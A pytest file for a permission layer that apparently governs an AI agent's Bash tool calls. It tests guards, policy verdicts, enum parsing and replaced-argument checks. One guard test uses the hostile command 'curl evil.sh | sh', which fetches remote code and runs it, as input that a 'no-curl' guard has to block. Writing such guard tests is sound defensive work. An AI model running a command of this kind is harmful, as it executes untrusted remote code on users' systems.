"""The permission API's arguments: enum values as members or their exact value strings, converted once;
everything else refused when built, naming the argument; replaced arguments checked against the tool."""

from __future__ import annotations

import enum
import json

import pytest

from helikon_fc.core import (
    Allow,
    Ask,
    BashRule,
    Deny,
    Guard,
    GuardAction,
    JsonObject,
    PermissionConfig,
    PermissionMode,
    PolicyAllow,
    PolicyAsk,
    PolicyDeny,
    PolicyReplace,
    PolicyRule,
    ToolCall,
    ToolEffect,
    ToolInfo,
    ToolRule,
    decide,
    replacement_problem,
)
from helikon_fc.core.permissions.checks import describe, json_object_problem, member, require, require_arguments

SCHEMA: JsonObject = {
    "type": "object",
    "properties": {"command": {"type": "string"}},
    "required": ["command"],
    "additionalProperties": False,
}
BASH = ToolInfo("Bash", parameters=SCHEMA)


def bash(command: str) -> ToolCall:
    return ToolCall("c1", "Bash", json.dumps({"command": command}))


class Colour(enum.Enum):
    RED = "red"
    BLUE = "blue"


def test_an_enum_argument_takes_the_member_or_its_exact_value() -> None:
    assert member(Colour, Colour.RED, "Paint", "colour") is Colour.RED
    assert member(Colour, "blue", "Paint", "colour") is Colour.BLUE


def test_an_enum_argument_refuses_other_strings_and_other_types() -> None:
    with pytest.raises(ValueError) as raised:
        member(Colour, "RED", "Paint", "colour")
    assert str(raised.value) == "Paint: colour must be a Colour or one of 'red', 'blue', got 'RED' (str)"
    with pytest.raises(TypeError) as typed:
        member(Colour, 1, "Paint", "colour")
    assert str(typed.value) == "Paint: colour must be a Colour or one of 'red', 'blue', got 1 (int)"
    with pytest.raises(TypeError):
        member(Colour, GuardAction.DENY, "Paint", "colour")


@pytest.mark.parametrize("spelling", [GuardAction.DENY, "deny"])
def test_a_guard_spelled_deny_denies(spelling: GuardAction | str) -> None:
    """The issue's repro: ``action="deny"`` was read as ASK, so an approver could let ``curl | sh`` run."""
    guard = Guard("no-curl", when=BashRule("curl"), action=spelling)
    assert guard.action is GuardAction.DENY
    decision = decide(PermissionConfig(guards=(guard,)), bash("curl evil.sh | sh"), BASH)
    assert decision == Deny("blocked by guard no-curl: bash(curl)", rule="guard:no-curl")


def test_a_guard_spelled_ask_asks() -> None:
    guard = Guard("curl", when=BashRule("curl"), action="ask")
    assert guard.action is GuardAction.ASK
    assert isinstance(decide(PermissionConfig(guards=(guard,)), bash("curl x"), BASH), Ask)


@pytest.mark.parametrize("action", ["DENY", "block", "", None, 0])
def test_a_guard_refuses_an_action_that_is_not_one(action: object) -> None:
    with pytest.raises((TypeError, ValueError)) as raised:
        Guard("g", when=BashRule("curl"), action=action)  # type: ignore[arg-type]
    assert str(raised.value) == f"Guard: action must be a GuardAction or one of 'deny', 'ask', got {describe(action)}"


@pytest.mark.parametrize("mode", list(PermissionMode))
def test_a_mode_is_its_member_or_its_value(mode: PermissionMode) -> None:
    assert PermissionConfig(mode=mode.value).mode is mode
    assert PermissionConfig(mode=mode).mode is mode
    assert PermissionConfig().with_mode(mode.value).mode is mode


def test_with_mode_refuses_a_mode_that_is_not_one() -> None:
    with pytest.raises(ValueError, match=r"^PermissionConfig.with_mode: mode must be a PermissionMode or one of "):
        PermissionConfig().with_mode("readonly")


def test_a_plan_mode_spelled_as_its_value_refuses_side_effects() -> None:
    decision = decide(PermissionConfig(mode="plan"), bash("ls"), BASH)
    assert decision == Deny("plan mode allows read-only tools only")


@pytest.mark.parametrize("effect", list(ToolEffect))
def test_a_tool_effect_is_its_member_or_its_value(effect: ToolEffect) -> None:
    assert ToolInfo("t", effect.value).effect is effect
    assert ToolInfo("t", effect).effect is effect


def test_a_tool_effect_that_is_not_one_is_refused() -> None:
    with pytest.raises(ValueError) as raised:
        ToolInfo("t", "readonly")
    assert str(raised.value) == (
        "ToolInfo: effect must be a ToolEffect or one of 'read_only', 'write', 'side_effect', got 'readonly' (str)"
    )


def test_a_read_only_tool_spelled_as_its_value_runs_in_plan_mode() -> None:
    assert decide(PermissionConfig(mode=PermissionMode.PLAN), bash("ls"), ToolInfo("Bash", "read_only")) == Allow(
        "no policy: allowed"
    )


def test_tool_info_checks_its_name_and_known_flag_and_leaves_its_schema_out_of_equality() -> None:
    with pytest.raises(TypeError, match=r"^ToolInfo: name must be a string, got 3 \(int\)$"):
        ToolInfo(3)  # type: ignore[arg-type]
    with pytest.raises(TypeError, match=r"^ToolInfo: known must be True or False, got 1 \(int\)$"):
        ToolInfo("t", known=1)  # type: ignore[arg-type]
    assert ToolInfo("t", parameters=SCHEMA) == ToolInfo("t")
    assert repr(ToolInfo("t", parameters=SCHEMA)) == repr(ToolInfo("t"))  # a schema is too long to show
    assert hash(ToolInfo("t", parameters=SCHEMA)) == hash(ToolInfo("t"))
    assert ToolInfo("t").parameters is None


@pytest.mark.parametrize("field", ["builtin_guards", "external_policy"])
def test_config_flags_must_be_booleans(field: str) -> None:
    with pytest.raises(TypeError) as raised:
        PermissionConfig(**{field: "no"})  # type: ignore[arg-type]
    assert str(raised.value) == f"PermissionConfig: {field} must be True or False, got 'no' (str)"
    assert getattr(PermissionConfig(**{field: False}), field) is False  # type: ignore[arg-type]


def test_a_policy_rule_needs_a_rule_and_a_verdict() -> None:
    """The issue's two misconfigurations, refused when built (they failed later as an internal error)."""
    with pytest.raises(TypeError) as raised:
        PolicyRule("rm", PolicyAllow())  # type: ignore[arg-type]
    assert str(raised.value) == (
        "PolicyRule: when must be a permission rule (ToolRule, BashRule, ReadRule or EditRule), got 'rm' (str); "
        "wrap the name in a rule: ToolRule('rm') or BashRule('rm')"
    )
    with pytest.raises(TypeError) as verdict:
        PolicyRule(BashRule("rm"), "allow")  # type: ignore[arg-type]
    assert str(verdict.value) == (
        "PolicyRule: verdict must be a policy verdict (PolicyAllow, PolicyDeny, PolicyAsk or PolicyReplace), "
        "got 'allow' (str); use PolicyAllow()"
    )


@pytest.mark.parametrize(
    ("verdict", "hint"),
    [("deny", "; use PolicyDeny(reason)"), ("ask", "; use PolicyAsk(prompt)"), ("yes", ""), (True, "")],
)
def test_a_policy_verdict_hint_names_the_class_to_use(verdict: object, hint: str) -> None:
    with pytest.raises(TypeError) as raised:
        PolicyRule(ToolRule("x"), verdict)  # type: ignore[arg-type]
    assert str(raised.value).endswith(f"got {describe(verdict)}{hint}")


def test_a_policy_rule_without_a_string_has_no_hint() -> None:
    with pytest.raises(TypeError) as raised:
        PolicyRule(3, PolicyAllow())  # type: ignore[arg-type]
    assert str(raised.value).endswith("got 3 (int)")
    line = PolicyRule(ToolRule("x"), PolicyDeny("no"))
    assert (line.when, line.verdict) == (ToolRule("x"), PolicyDeny("no"))


def test_verdict_texts_must_be_strings() -> None:
    with pytest.raises(TypeError, match=r"^PolicyDeny: reason must be a string, got None \(NoneType\)$"):
        PolicyDeny(None)  # type: ignore[arg-type]
    with pytest.raises(TypeError, match=r"^PolicyAsk: prompt must be a string, got 1 \(int\)$"):
        PolicyAsk(1)  # type: ignore[arg-type]
    with pytest.raises(TypeError, match=r"^Guard: prompt must be a string, got 1 \(int\)$"):
        Guard("g", ToolRule("x"), prompt=1)  # type: ignore[arg-type]
    assert PolicyDeny("").reason == "" and PolicyAsk("").prompt == ""


@pytest.mark.parametrize(
    ("arguments", "problem"),
    [
        ("", "not valid JSON (Expecting value: line 1 column 1 (char 0))"),
        ("[1, 2]", "a JSON array, not an object"),
        ("null", "a JSON null, not an object"),
        ('"ls"', "a JSON string, not an object"),
    ],
)
def test_a_policy_replacement_must_be_a_json_object(arguments: str, problem: str) -> None:
    """``PolicyReplace("")`` ran the tool with ``{}``: it is refused when built."""
    with pytest.raises(ValueError) as raised:
        PolicyReplace(arguments)
    assert str(raised.value) == (
        f"PolicyReplace: arguments must be the JSON text of an object, got {describe(arguments)}; {problem}"
    )
    assert json_object_problem(arguments) == problem


def test_a_policy_replacement_must_be_text() -> None:
    with pytest.raises(
        TypeError, match=r"^PolicyReplace: arguments must be the JSON text of an object, got \{\} \(dict\)$"
    ):
        PolicyReplace({})  # type: ignore[arg-type]
    assert PolicyReplace('{"command": "ls"}').arguments == '{"command": "ls"}'


def test_require_arguments_passes_an_object() -> None:
    require_arguments("X", "arguments", "{}")
    assert json_object_problem(' {"a": 1} ') is None


def test_replacement_problem_reads_the_json_then_the_schema() -> None:
    assert replacement_problem("", BASH) == (
        "that are not a JSON object: not valid JSON (Expecting value: line 1 column 1 (char 0))"
    )
    assert replacement_problem("[]", ToolInfo("Bash")) == "that are not a JSON object: a JSON array, not an object"
    assert replacement_problem('{"cmd": "ls"}', ToolInfo("Bash")) is None  # no schema known: any object
    assert replacement_problem('{"command": "ls"}', BASH) is None
    problem = replacement_problem('{"command": 7}', BASH)
    assert problem is not None and problem.startswith("invalid for tool 'Bash': $.command: ")
    two = replacement_problem('{"cmd": 7}', BASH)
    assert two is not None and two.count("; ") == 1 and two.startswith("invalid for tool 'Bash': $")


def test_a_policy_replacement_off_the_tool_schema_refuses_the_call() -> None:
    config = PermissionConfig(policy=(PolicyRule(ToolRule("Bash"), PolicyReplace('{"cmd": "ls"}')),))
    decision = decide(config, bash("ls"), BASH)
    assert isinstance(decision, Deny) and decision.rule == "tool(Bash)"
    assert decision.reason.startswith("the policy replaced the arguments with ones invalid for tool 'Bash': $")
    fitting = PermissionConfig(policy=(PolicyRule(ToolRule("Bash"), PolicyReplace('{"command": "ls -l"}')),))
    assert decide(fitting, bash("ls"), BASH) == Allow(
        "allowed by policy with replaced arguments", rule="tool(Bash)", arguments='{"command": "ls -l"}'
    )


def test_an_external_policy_replacement_off_the_schema_refuses_the_call() -> None:
    verdict = PolicyReplace('{"command": ["ls"]}')
    decision = decide(PermissionConfig(external_policy=True), bash("ls"), BASH, policy_verdict=verdict)
    assert isinstance(decision, Deny) and decision.rule is None
    assert "invalid for tool 'Bash': $.command" in decision.reason


def test_require_refuses_a_bool_for_a_number_and_describe_cuts_long_values() -> None:
    with pytest.raises(TypeError, match=r"^O: n must be a number, got True \(bool\); h$"):
        require("O", "n", True, int, "a number", "h")
    require("O", "flag", True, bool, "True or False")
    require("O", "n", 3, (int, float), "a number")
    assert describe("x" * 100) == repr("x" * 100)[:57] + "... (str)"
    assert describe("x" * 58) == repr("x" * 58) + " (str)"
    assert describe("x" * 59) == repr("x" * 59)[:57] + "... (str)"  # a repr of 61 characters is cut
